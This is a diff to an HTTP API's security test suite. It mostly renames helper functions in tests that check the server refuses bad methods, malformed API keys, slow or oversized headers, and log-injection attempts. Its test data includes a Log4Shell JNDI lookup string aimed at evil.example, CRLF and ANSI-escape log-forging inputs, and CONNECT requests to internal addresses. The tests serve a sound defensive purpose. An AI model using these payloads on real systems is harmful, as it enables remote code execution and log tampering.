@@ -3,21 +3,21 @@ import { text } from 'node:stream/consumers';
 import { startTcpProxy } from '@firmlens/testkit';
 import { type Caller, openAccount, openKey } from '../support/accounts';
 import { completeBatch } from '../support/batches';
-import { exchange, type RawAnswer, type RawRequest } from '../support/raw-http';
-import { expectRefusal } from '../support/expect-refusal';
-import { type Api, newDomain, startApi, WEBHOOK } from '../support/start-api';
-import { type Ask, watchQueries } from '../support/watch-queries';
+import { sendRawRequest, type RawResponse, type RawRequest } from '../support/raw-http';
+import { expectedRefusal } from '../support/expected-refusal';
+import { type Api, newDomain, startApi, WEBHOOK_URL } from '../support/start-api';
+import { type CheckedSender, createCheckedSender } from '../support/checked-sender';
 
 let api: Api;
 let caller: Caller;
-let ask: Ask;
-let slow: Promise<{ answer: RawAnswer; seconds: number }>;
+let ask: CheckedSender;
+let slow: Promise<{ answer: RawResponse; seconds: number }>;
 
 beforeAll(async () => {
   api = await startApi();
   caller = await openAccount(api.db);
   await completeBatch(api.db, caller, 'fresh.example');
-  ask = watchQueries(api, caller);
+  ask = createCheckedSender(api, caller);
   slow = sendSlowly();
 });
 afterAll(() => api.stop());
@@ -25,11 +25,11 @@ afterAll(() => api.stop());
 /** Begins a head that never ends, and waits until the server has enough of it. */
 async function sendSlowly() {
   const started = performance.now();
-  const answer = await exchange(api.port, 'GET /api/v1/health HTTP/1.1\r\nHost: a\r\nX-Slow: ');
+  const answer = await sendRawRequest(api.port, 'GET /api/v1/health HTTP/1.1\r\nHost: a\r\nX-Slow: ');
   return { answer, seconds: (performance.now() - started) / 1_000 };
 }
 
-const webhook = `X-Webhook-URL: ${WEBHOOK}`;
+const webhook = `X-Webhook-URL: ${WEBHOOK_URL}`;
 const INFO = { path: '/account/info' };
 const GET_ENDPOINTS = [
   '/account/info',
@@ -76,20 +76,20 @@ describe('methods', () => {
   ])('63  %s %s is refused, and told what is allowed', async (method, path, allow) => {
     const answer = await ask({ method, path, headers: [webhook] });
     expect(answer).toMatchObject({
-      ...(method === 'HEAD' ? { status: 405 } : expectRefusal('method_not_allowed')),
+      ...(method === 'HEAD' ? { status: 405 } : expectedRefusal('method_not_allowed')),
     });
     expect(answer.headers['allow']).toBe(allow);
   });
 
   test.each([...GET_ENDPOINTS, '/company/acme.com', '/account/webhook'])('64  TRACE %s', async (path) => {
     const answer = await ask({ method: 'TRACE', path });
-    expect(answer).toMatchObject(expectRefusal('method_not_allowed'));
+    expect(answer).toMatchObject(expectedRefusal('method_not_allowed'));
     expect(answer.text).not.toContain(caller.key);
   });
 
   test.each(['intranet.example:443', '127.0.0.1:5432'])('64  CONNECT %s', async (target) => {
     const answer = await ask({ method: 'CONNECT', target }, { isDocumented: false });
-    expect(answer).toMatchObject(expectRefusal('method_not_allowed'));
+    expect(answer).toMatchObject(expectedRefusal('method_not_allowed'));
     expect(answer.headers['allow']).toBe('GET, HEAD, POST');
   });
 
@@ -103,7 +103,7 @@ describe('methods', () => {
         headers: [`${name}: GET`, webhook],
         body: '_method=GET',
       };
-      expect(await ask(posted)).toMatchObject(expectRefusal('method_not_allowed'));
+      expect(await ask(posted)).toMatchObject(expectedRefusal('method_not_allowed'));
     },
   );
 });
@@ -126,7 +126,7 @@ describe('keys', () => {
     [72, 'the key as another scheme', (key) => ({ headers: [`Authorization: Token ${key}`] })],
   ])('%i  %s is missing_api_key', async (_number, _what, request) => {
     expect(await ask({ ...INFO, ...request(caller.key) }, { key: null })).toMatchObject(
-      expectRefusal('missing_api_key'),
+      expectedRefusal('missing_api_key'),
     );
   });
 
@@ -152,7 +152,7 @@ describe('keys', () => {
     [79, 'a C1 control in it', () => ({ headers: ['X-API-Key: flk_\u009b31m'] })],
   ])('%i  %s is invalid_api_key', async (_number, _what, request) => {
     expect(await ask({ ...INFO, ...request(caller.key) }, { key: null })).toMatchObject(
-      expectRefusal('invalid_api_key'),
+      expectedRefusal('invalid_api_key'),
     );
   });
 
@@ -161,10 +161,10 @@ describe('keys', () => {
     const second = await startApi({ databaseUrl: gate.url, redisUrl: api.redisUrl });
     await gate.shut();
     expect(await second.get('/account/info', { key: mistyped(caller) })).toMatchObject(
-      expectRefusal('invalid_api_key'),
+      expectedRefusal('invalid_api_key'),
     );
     const unknown = await openKey(api.db, caller);
-    expect(await second.get('/account/info', unknown)).toMatchObject(expectRefusal('internal_error'));
+    expect(await second.get('/account/info', unknown)).toMatchObject(expectedRefusal('internal_error'));
     await second.stop();
   });
 
@@ -194,7 +194,7 @@ describe('keys', () => {
 
   test('74  the query is refused to another method', async () => {
     const posted = { method: 'POST', path: `/account/webhook?api_key=${caller.key}`, body: '{}' };
-    expect(await ask(posted, { key: null })).toMatchObject(expectRefusal('missing_api_key'));
+    expect(await ask(posted, { key: null })).toMatchObject(expectedRefusal('missing_api_key'));
     const head = { method: 'HEAD', path: `/account/info?api_key=${caller.key}` };
     expect(await ask(head, { key: null })).toMatchObject({ status: 401 });
   });
@@ -204,7 +204,7 @@ describe('keys', () => {
     async (forwarded) => {
       const { key } = await openKey(api.db, caller, { allowIps: ['192.0.2.0/24'] });
       const headers = [`X-Forwarded-For: ${forwarded}`, `X-Real-IP: 192.0.2.1`, `Forwarded: for=192.0.2.1`];
-      expect(await ask({ ...INFO, headers }, { key })).toMatchObject(expectRefusal('ip_not_allowed'));
+      expect(await ask({ ...INFO, headers }, { key })).toMatchObject(expectedRefusal('ip_not_allowed'));
     },
   );
 });
@@ -219,8 +219,8 @@ describe('what is asked for before the key is known to be good', () => {
     ['the retired mode', '/company/acme.com?mode=cached'],
     ['enrich twice', '/company/acme.com?enrich=a&enrich=b'],
   ])('%s is not told', async (_what, path) => {
-    expect(await ask({ path }, { key: null })).toMatchObject(expectRefusal('missing_api_key'));
-    expect(await ask({ path }, { key: mistyped(caller) })).toMatchObject(expectRefusal('invalid_api_key'));
+    expect(await ask({ path }, { key: null })).toMatchObject(expectedRefusal('missing_api_key'));
+    expect(await ask({ path }, { key: mistyped(caller) })).toMatchObject(expectedRefusal('invalid_api_key'));
   });
 });
 
@@ -242,7 +242,7 @@ describe('heads', () => {
   test('77  200 header fields', async () => {
     const headers = Array.from({ length: 200 }, (_, index) => `X-${index}: a`);
     expect(await ask({ path: '/health', headers }, { isDocumented: false })).toMatchObject(
-      expectRefusal('invalid_parameter'),
+      expectedRefusal('invalid_parameter'),
     );
   });
 
@@ -266,7 +266,7 @@ describe('heads', () => {
       { method: 'POST', path: '/account/webhook', ...request },
       { isDocumented: false },
     );
-    expect(answer).toMatchObject(expectRefusal('invalid_parameter'));
+    expect(answer).toMatchObject(expectedRefusal('invalid_parameter'));
   });
 
   test.each([
@@ -275,8 +275,8 @@ describe('heads', () => {
     ['the preface of HTTP/2', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'],
     ['HTTP/1.1 without a host', 'GET /api/v1/health HTTP/1.1\r\nConnection: close\r\n\r\n'],
   ])('%s gets an error in the one shape', async (_what, bytes) => {
-    const answer = await exchange(api.port, bytes);
-    expect(answer).toMatchObject(expectRefusal('invalid_parameter'));
+    const answer = await sendRawRequest(api.port, bytes);
+    expect(answer).toMatchObject(expectedRefusal('invalid_parameter'));
     expect(answer.headers).toMatchObject({
       'content-type': 'application/json; charset=utf-8',
       'x-request-id': expect.any(String),
@@ -303,15 +303,15 @@ describe('heads', () => {
     [
       'X-Webhook-URL: https://a/%0d%0a{"level":"error"}',
       '/company/acme.com',
-      expectRefusal('webhook_required'),
+      expectedRefusal('webhook_required'),
     ],
-    ['X-Webhook-URL: https://a/\u009b31m', '/company/acme.com', expectRefusal('webhook_required')],
+    ['X-Webhook-URL: https://a/\u009b31m', '/company/acme.com', expectedRefusal('webhook_required')],
     ['X-Request-Id: a\u009b31m', '/account/info', { status: 200 }],
-    ['User-Agent: ${jndi:ldap://evil.example}\u009b31m', '/nothing', expectRefusal('not_found')],
-    ['X-A: b', '/company/acme%0a%0d%1b[31m.com', expectRefusal('invalid_domain')],
-    ['X-A: b', '/company/acme%0a{"level":"error"}', expectRefusal('invalid_domain')],
-    ['X-A: b', '/nothing%0a%1b[31m{"level":"error"}', expectRefusal('not_found')],
-    ['X-A: b', '/enrichment/%0a%1b[31m/status', expectRefusal('batch_not_found')],
+    ['User-Agent: ${jndi:ldap://evil.example}\u009b31m', '/nothing', expectedRefusal('not_found')],
+    ['X-A: b', '/company/acme%0a%0d%1b[31m.com', expectedRefusal('invalid_domain')],
+    ['X-A: b', '/company/acme%0a{"level":"error"}', expectedRefusal('invalid_domain')],
+    ['X-A: b', '/nothing%0a%1b[31m{"level":"error"}', expectedRefusal('not_found')],
+    ['X-A: b', '/enrichment/%0a%1b[31m/status', expectedRefusal('batch_not_found')],
   ])('79  %s at %s leaves one line in the log', async (header, path, expected) => {
     expect(await ask({ path, headers: [header] })).toMatchObject(expected);
   });
